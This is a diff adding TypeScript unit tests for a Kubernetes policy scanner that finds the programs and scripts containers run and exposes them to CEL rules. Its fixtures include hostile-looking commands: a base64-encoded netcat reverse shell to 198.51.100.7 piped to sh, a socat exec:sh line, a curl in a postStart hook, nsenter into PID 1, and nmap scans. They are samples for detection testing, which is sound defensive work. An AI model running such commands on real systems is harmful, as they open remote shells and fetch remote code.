@@ -325,6 +325,7 @@ describe('variables', () => {
         },
       ],
       obfuscation: [],
+      scripts: [],
       limits: [],
       problems: [],
     };
@@ -359,6 +360,160 @@ describe('variables', () => {
   it('position counts lines and columns from 1', () => {
     expect(position('ab\ncd', 4)).toBe('2:2');
     expect(position('abc', 0)).toBe('1:1');
+  });
+});
+
+describe('programs, scripts and argv', () => {
+  /** A container's CEL variables, with the execution model. */
+  const containerOf = (container: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+    (
+      celVariables(buildWorkload(cronJob([{ name: 'c', image: 'alpine:3.20', ...container }], extra)))
+        .containers as Record<string, unknown>[]
+    )[0]!;
+  const programs = (container: Record<string, unknown>) => containerOf(container).programs as string[];
+
+  it.each<[string, Record<string, unknown>, string[]]>([
+    ['an exec-form argv', { command: ['/usr/bin/python3'], args: ['-m', 'http.server'] }, ['python3']],
+    [
+      'the script of command ["/bin/sh","-c"] in args[0]',
+      { command: ['/bin/sh', '-c'], args: ['date; echo Hello from the Kubernetes cluster'] },
+      ['sh', 'date', 'echo'],
+    ],
+    [
+      'bash -o pipefail -c',
+      { command: ['bash', '-o', 'pipefail', '-c', 'pg_dump db | gzip'] },
+      ['bash', 'pg_dump', 'gzip'],
+    ],
+    [
+      'launchers unwrapped',
+      { command: ['nohup', 'timeout', '30', 'env', 'A=1', '/usr/bin/NC', '-z', 'db', '5432'] },
+      ['nc'],
+    ],
+    [
+      'a program in a command substitution',
+      { command: ['sh', '-c', 'echo "$(hostname)"'] },
+      ['sh', 'echo', 'hostname'],
+    ],
+    [
+      'a program run by a shell function',
+      { command: ['sh', '-c', 'f() { nc -z db 5432; }; f'] },
+      ['sh', 'nc'],
+    ],
+    [
+      "a program in an eval'd string",
+      { command: ['sh', '-c', 'c="nmap -p 22 10.0.0.1"; eval "$c"'] },
+      ['sh', 'eval', 'nmap'],
+    ],
+    [
+      'a decoded payload piped to a shell',
+      {
+        command: [
+          'sh',
+          '-c',
+          `echo ${Buffer.from('id; nc 198.51.100.7 4444').toString('base64')} | base64 -d | sh`,
+        ],
+      },
+      ['sh', 'echo', 'base64', 'id', 'nc'],
+    ],
+    [
+      'a file the container wrote and runs',
+      { command: ['sh', '-c', 'printf "socat tcp:h:1 exec:sh" > /tmp/x.sh; sh /tmp/x.sh'] },
+      ['sh', 'printf', 'socat'],
+    ],
+    [
+      'a program an inline interpreter starts',
+      { command: ['python3', '-c', 'import os; os.system("curl -s https://example.com/x")'] },
+      ['python3', 'curl'],
+    ],
+  ])('programs: %s', (_name, container, expected) => {
+    expect(programs(container)).toEqual(expect.arrayContaining(expected));
+    expect(new Set(programs(container)).size).toBe(programs(container).length);
+  });
+
+  it('programs: launchers that only change how a program runs are left out; chroot and nsenter are not', () => {
+    expect(
+      programs({ command: ['nohup', 'timeout', '30', 'env', 'A=1', '/usr/bin/NC', '-z', 'db', '5432'] }),
+    ).toEqual(['nc']);
+    expect(programs({ command: ['sudo', 'nsenter', '-t', '1', '-m', 'sh'] })).toEqual(['nsenter', 'sh']);
+    expect(programs({ command: ['env'] })).toEqual(['env']);
+  });
+
+  it('programs: a lifecycle hook and an exec probe count; a launcher does not', () => {
+    const found = programs({
+      command: ['nohup', 'app'],
+      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl -s http://198.51.100.7/x'] } } },
+      livenessProbe: { exec: { command: ['pg_isready'] } },
+    });
+    expect(found).toEqual(expect.arrayContaining(['app', 'sh', 'curl', 'pg_isready']));
+    expect(found).not.toContain('nohup');
+  });
+
+  it('scripts: sh -c strings at any depth, eval text and decoded payloads, each once', () => {
+    const payload = 'id; nc 198.51.100.7 4444';
+    const scripts = containerOf({
+      command: [
+        'sh',
+        '-c',
+        `bash -c 'eval "uname -a"'; echo ${Buffer.from(payload).toString('base64')} | base64 -d | sh; bash -c 'eval "uname -a"'`,
+      ],
+    }).scripts as string[];
+    expect(scripts).toEqual(expect.arrayContaining(['eval "uname -a"', 'uname -a', payload]));
+    expect(scripts[0]).toContain('base64 -d | sh');
+    expect(new Set(scripts).size).toBe(scripts.length);
+  });
+
+  it('scripts: none for an exec-form argv', () => {
+    expect(containerOf({ command: ['pg_dump', 'db'] }).scripts).toEqual([]);
+  });
+
+  const env = [
+    { name: 'HOST', value: '10.0.0.1' },
+    { name: 'URL', value: 'http://$(HOST)/x.sh' },
+    { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
+  ];
+  it.each<[string, string]>([
+    ['$(HOST)', '10.0.0.1'],
+    ['curl $(URL)', 'curl http://10.0.0.1/x.sh'],
+    ['$(TOKEN)', '$(TOKEN)'],
+    ['$(MISSING)', '$(MISSING)'],
+    ['$$(HOST)', '$(HOST)'],
+    ['a$$b $x $(unterminated', 'a$b $x $(unterminated'],
+    ['plain', 'plain'],
+  ])('argv expands the literal $(VAR) reference in %j to %j', (arg, expected) => {
+    expect(containerOf({ args: [arg], env }).argv).toEqual([expected]);
+  });
+
+  it.each<[string, Record<string, unknown>, string[]]>([
+    ['no command', {}, []],
+    ['a non-list command', { command: 'sh -c id' }, []],
+    ['non-string items', { command: ['sh', null, 3, {}], args: [true, '-x'] }, ['sh', '-x']],
+  ])('argv of %s', (_name, container, expected) => {
+    expect(containerOf(container).argv).toEqual(expected);
+  });
+
+  it('an expression naming only programs still sees them (the execution model is built for it)', () => {
+    const object = cronJob([
+      { name: 'c', image: 'alpine', command: ['sh', '-c', 'f() { nmap -p- 10.0.0.0/24; }; f'] },
+    ]);
+    const found = findingsOf(rule("containers.exists(c, 'nmap' in c.programs)"), object).findings;
+    expect(found.filter((f) => f.rule === 'custom-check')).toHaveLength(1);
+    const quiet = cronJob([{ name: 'c', image: 'alpine', command: ['pg_dump', 'db'] }]);
+    expect(
+      findingsOf(rule("containers.exists(c, 'nmap' in c.programs)"), quiet).findings.filter(
+        (f) => f.rule === 'custom-check',
+      ),
+    ).toEqual([]);
+  });
+
+  it("an expression naming only scripts sees them, also through c['scripts']", () => {
+    const object = cronJob([{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf /b/x.tgz /data'] }]);
+    for (const expression of [
+      "containers.exists(c, c.scripts.exists(s, s.contains('tar czf')))",
+      "containers.exists(c, c['scripts'].exists(s, s.contains('tar czf')))",
+    ]) {
+      const found = findingsOf(rule(expression), object).findings.filter((f) => f.rule === 'custom-check');
+      expect(found).toHaveLength(1);
+    }
   });
 });
 
